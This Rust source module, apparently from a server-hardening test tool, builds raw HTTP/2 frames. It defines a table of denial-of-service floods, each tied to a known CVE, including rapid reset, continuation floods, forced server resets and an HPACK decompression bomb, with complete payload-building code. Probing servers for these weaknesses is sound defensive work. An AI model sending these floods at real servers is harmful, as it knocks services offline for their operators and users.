//! Frames of HTTP/2 by hand, and floods of them: what costs its receiver work and moves nothing.
//!
//! A [`Flood`] is rounds of bytes after the [`greeting`]. Whoever sends them for long enough is told
//! `ENHANCE_YOUR_CALM` and is sent away, and nobody else notices.

use crate::sniff::HTTP2_PREFACE;

/// The code of `ENHANCE_YOUR_CALM` (RFC 9113 §7).
pub const ENHANCE_YOUR_CALM: u32 = 11;

/// DATA.
pub const DATA: u8 = 0;
/// HEADERS.
pub const HEADERS: u8 = 1;
/// PRIORITY.
pub const PRIORITY: u8 = 2;
/// `RST_STREAM`.
pub const RST_STREAM: u8 = 3;
/// SETTINGS.
pub const SETTINGS: u8 = 4;
/// PING.
pub const PING: u8 = 6;
/// GOAWAY.
pub const GOAWAY: u8 = 7;
/// `WINDOW_UPDATE`.
pub const WINDOW_UPDATE: u8 = 8;
/// CONTINUATION.
pub const CONTINUATION: u8 = 9;
/// A type of which no document speaks.
const UNKNOWN: u8 = 0xbe;

/// The flag of DATA and HEADERS that ends a stream.
pub const END_STREAM: u8 = 0x1;
/// The flag of HEADERS and CONTINUATION that ends a head.
pub const END_HEADERS: u8 = 0x4;
/// The flag of DATA whose first byte says how many bytes at its end are padding.
pub const PADDED: u8 = 0x8;

/// A way to keep a server busy.
#[derive(Debug, Clone, Copy)]
pub struct Flood {
    /// A unique name.
    pub name: &'static str,
    /// The advisory that made it known, or the class of attack.
    pub reference: &'static str,
    /// How many rounds it takes at most until a server has had enough.
    pub rounds: u32,
    round: fn(&[u8], u32) -> Vec<u8>,
}

/// Every flood.
pub const FLOODS: &[Flood] = &[
    Flood {
        name: "pings",
        reference: "CVE-2019-9512",
        rounds: 1000,
        round: |_, _| frame(PING, 0, 0, &[0; 8]),
    },
    Flood {
        name: "settings",
        reference: "CVE-2019-9515",
        rounds: 1000,
        round: |_, _| frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100]),
    },
    Flood {
        name: "priorities",
        reference: "CVE-2019-9513",
        rounds: 2000,
        round: |_, _| frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 1]),
    },
    Flood {
        name: "window updates",
        reference: "CVE-2019-9511",
        rounds: 5000,
        round: |_, _| frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]),
    },
    Flood {
        name: "frames of an unknown type",
        reference: "RFC 9113 §5.5",
        rounds: 1000,
        round: |_, _| frame(UNKNOWN, 0, 0, &[0; 8]),
    },
    Flood {
        name: "rapid resets",
        reference: "CVE-2023-44487",
        rounds: 2000,
        round: |head, round| {
            let stream = client_stream(round);
            let opened = frame(HEADERS, END_STREAM | END_HEADERS, stream, head);
            [opened, frame(RST_STREAM, 0, stream, &[0, 0, 0, 8])].concat()
        },
    },
    Flood {
        name: "resets that the server is made to send",
        reference: "CVE-2025-8671",
        rounds: 2000,
        round: |head, round| {
            let stream = client_stream(round);
            let opened = frame(HEADERS, END_HEADERS, stream, head);
            // A window beyond 2^31-1 makes the receiver reset the stream.
            let too_much = [0x7f, 0xff, 0xff, 0xff];
            [opened, frame(WINDOW_UPDATE, 0, stream, &too_much)].concat()
        },
    },
    Flood {
        name: "empty data",
        reference: "CVE-2019-9518",
        rounds: 1000,
        round: |head, round| {
            let data = frame(DATA, 0, 1, &[]);
            after_head(head, round, data)
        },
    },
    Flood {
        name: "data that is nothing but padding",
        reference: "CVE-2019-9518",
        rounds: 1000,
        round: |head, round| {
            let data = frame(DATA, PADDED, 1, &[0]);
            after_head(head, round, data)
        },
    },
    Flood {
        name: "continuations without end",
        reference: "CVE-2024-27919",
        rounds: 2000,
        round: |head, round| match round {
            0 => frame(HEADERS, END_STREAM, 1, head),
            _ => frame(CONTINUATION, 0, 1, &literal("a", &[b'x'; 100])),
        },
    },
    Flood {
        name: "heads that grow when they are decompressed",
        reference: "CVE-2016-6581",
        rounds: 200,
        round: |head, round| {
            // One field of 4,000 bytes in the table, then thousands of references of one byte each.
            let mut block = head.to_vec();
            if round == 0 {
                block.extend_from_slice(&[0x40, 1, b'a', 0x7f, 0xa1, 0x1e]);
                block.extend_from_slice(&[b'x'; 4000]);
            } else {
                block.extend_from_slice(&[0xbe; 12_000]);
            }
            let flags = END_STREAM | END_HEADERS;
            frame(HEADERS, flags, client_stream(round), &block)
        },
    },
];

// === impl Flood ===

impl Flood {
    /// The bytes of a round, counted from zero, in requests for this host.
    pub fn round(&self, host: &str, round: u32) -> Vec<u8> {
        (self.round)(&get(host), round)
    }
}

/// What a client says first: the preface and empty settings.
pub fn greeting() -> Vec<u8> {
    [HTTP2_PREFACE, &frame(SETTINGS, 0, 0, &[])].concat()
}

/// A frame.
///
/// # Panics
/// If the payload is longer than any frame may be.
pub fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("a frame of less than 4 GiB");
    let [excess, length @ ..] = length.to_be_bytes();
    assert_eq!(excess, 0, "a frame is shorter than 16 MiB");
    let mut frame = [&length[..], &[kind, flags]].concat();
    frame.extend_from_slice(&stream.to_be_bytes());
    frame.extend_from_slice(payload);
    frame
}

/// A field as a literal without indexing.
///
/// # Panics
/// If the name or the value is longer than 126 bytes: their lengths take one byte here.
pub fn literal(name: &str, value: &[u8]) -> Vec<u8> {
    let length = |text: &[u8]| {
        let length = u8::try_from(text.len()).ok();
        length.filter(|it| *it < 127).expect("a short text")
    };
    let mut field = vec![0, length(name.as_bytes())];
    field.extend_from_slice(name.as_bytes());
    field.push(length(value));
    field.extend_from_slice(value);
    field
}

/// The fields of a GET of `/`.
pub fn get(host: &str) -> Vec<u8> {
    let fields = [
        (":method", "GET"),
        (":scheme", "http"),
        (":path", "/"),
        (":authority", host),
    ];
    fields
        .map(|(name, value)| literal(name, value.as_bytes()))
        .concat()
}

/// The stream that a client opens after so many others.
fn client_stream(before: u32) -> u32 {
    2 * before + 1
}

/// Data on a stream that the first round opens.
fn after_head(head: &[u8], round: u32, data: Vec<u8>) -> Vec<u8> {
    match round {
        0 => [frame(HEADERS, END_HEADERS, 1, head), data].concat(),
        _ => data,
    }
}
